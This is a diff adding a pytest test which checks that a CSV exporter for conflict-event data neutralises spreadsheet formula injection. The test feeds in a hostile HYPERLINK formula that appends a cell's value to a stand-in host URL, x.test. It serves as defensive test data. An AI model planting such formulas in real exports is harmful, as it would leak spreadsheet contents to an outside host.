@@ -180,3 +180,27 @@ def test_export_cli_bad_bbox_is_one_line_error(tmp_path: Path) -> None:
     )
     assert result.returncode == 1
     assert "--bbox needs 4" in result.stderr
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
+def test_acled_csv_neutralises_formula_cells(
+    demo: tuple[Document, list[Event]], start: str
+) -> None:
+    hostile = f'{start}HYPERLINK("http://x.test/?"&A1,"click")'
+    event = demo[1][0].model_copy(
+        update={"actor1": hostile, "notes": hostile, "location": f"{start}1+1", "source": hostile}
+    )
+    out = io.StringIO(newline="")
+    write_acled_csv([event], out, timestamp=0)
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    for column in ("actor1", "notes", "location", "source"):
+        assert row[column].startswith("'" + start), column
+    assert row["latitude"] == "36.1955" and row["fatalities"] == "4"  # numbers stay numbers
+    south = event.model_copy(
+        update={"latitude": -33.5, "longitude": -70.6, "notes": "one\rtwo\r\nthree"}
+    )
+    out = io.StringIO(newline="")
+    write_acled_csv([south], out, timestamp=0)
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.6")
+    assert row["notes"] == "one\ntwo\nthree"
